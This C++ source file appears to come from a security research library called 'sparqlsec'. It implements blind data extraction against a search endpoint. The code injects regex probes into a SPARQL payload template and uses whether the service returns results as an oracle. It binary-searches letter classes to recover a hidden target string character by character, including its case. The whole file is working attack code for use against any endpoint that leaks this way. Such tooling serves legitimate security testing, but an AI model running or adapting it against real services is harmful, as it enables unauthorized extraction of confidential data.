#include "sparqlsec/attack/blind.hpp"

#include <cctype>

#include "sparqlsec/rdf/term.hpp"

namespace sparqlsec::attack {

namespace {

constexpr char end_leaf = '$';
constexpr char other_leaf = '*';

std::string regex_escape(const std::string &s)
{
    std::string out;
    for (char c : s) {
        if (std::isalnum(static_cast<unsigned char>(c)) == 0) {
            out += '\\';
        }
        out += c;
    }
    return out;
}

std::string fill(std::string text, const std::string &hole, const std::string &value)
{
    for (auto pos = text.find(hole); pos != std::string::npos; pos = text.find(hole, pos + value.size())) {
        text.replace(pos, hole.size(), value);
    }
    return text;
}

class prober {
public:
    prober(attack_target &target, const blind_options &options) : target_(target), options_(options) {}

    bool ask(const std::string &regex, const std::string &flags)
    {
        auto payload = fill(options_.probe_template, "@{target}", options_.target);
        payload = fill(payload, "@{regex}", rdf::escape_string(regex));
        payload = fill(payload, "@{flags}", flags);
        auto r = target_.search(payload, options_.mode);
        result_.log.push_back({regex, flags, r.state});
        ++result_.probes;
        if (r.state == service::response_state::error) {
            ++errors_;
        } else if (r.state == service::response_state::results) {
            ++positives_;
        }
        return r.state == service::response_state::results;
    }

    [[nodiscard]] std::size_t positives() const { return positives_; }
    [[nodiscard]] std::size_t errors() const { return errors_; }
    blind_result &result() { return result_; }

private:
    attack_target &target_;
    const blind_options &options_;
    blind_result result_;
    std::size_t positives_ = 0;
    std::size_t errors_ = 0;
};

std::string alternatives(const std::string &prefix, const std::string &leaves)
{
    std::string letters;
    bool end = false;
    bool other = false;
    for (char c : leaves) {
        if (c == end_leaf) {
            end = true;
        } else if (c == other_leaf) {
            other = true;
        } else {
            letters += c;
        }
    }
    std::vector<std::string> parts;
    if (!letters.empty()) {
        parts.push_back(letter_class(letters));
    }
    if (other) {
        parts.emplace_back("[^a-z]");
    }
    if (end) {
        parts.emplace_back("$");
    }
    std::string body = parts.size() == 1 ? parts[0] : "(?:" + parts[0];
    if (parts.size() > 1) {
        for (std::size_t i = 1; i < parts.size(); ++i) {
            body += "|" + parts[i];
        }
        body += ")";
    }
    return "^" + regex_escape(prefix) + body;
}

} // namespace

std::string letter_class(const std::string &letters)
{
    std::string out = "[";
    for (std::size_t i = 0; i < letters.size();) {
        std::size_t j = i;
        while (j + 1 < letters.size() && letters[j + 1] == letters[j] + 1) {
            ++j;
        }
        out += letters[i];
        if (j - i >= 2) {
            out += '-';
            out += letters[j];
        } else if (j == i + 1) {
            out += letters[j];
        }
        i = j + 1;
    }
    return out + "]";
}

blind_result blind_extract(attack_target &target, const blind_options &options)
{
    std::string leaves;
    leaves += end_leaf;
    leaves += other_leaf;
    for (char c = 'a'; c <= 'z'; ++c) {
        leaves += c;
    }

    prober p(target, options);
    std::string recovered;
    for (std::size_t k = 0; k < options.max_len; ++k) {
        std::size_t lo = 0;
        std::size_t hi = leaves.size();
        while (hi - lo > 1) {
            std::size_t mid = lo + (hi - lo) / 2;
            if (p.ask(alternatives(recovered, leaves.substr(lo, mid - lo)), "i")) {
                hi = mid;
            } else {
                lo = mid;
            }
        }
        if (k == 0 && p.positives() == 0) {
            if (p.errors() == p.result().probes || !p.ask("^", "")) {
                throw extraction_impossible("no response difference after " + std::to_string(p.result().probes) +
                                            " probes; the search endpoint does not leak");
            }
        }
        char leaf = leaves[lo];
        if (leaf == end_leaf || leaf == other_leaf) {
            break;
        }
        auto upper = static_cast<char>(std::toupper(static_cast<unsigned char>(leaf)));
        recovered += p.ask("^" + regex_escape(recovered) + upper, "") ? upper : leaf;
    }
    auto result = std::move(p.result());
    result.recovered = std::move(recovered);
    return result;
}

} // namespace sparqlsec::attack
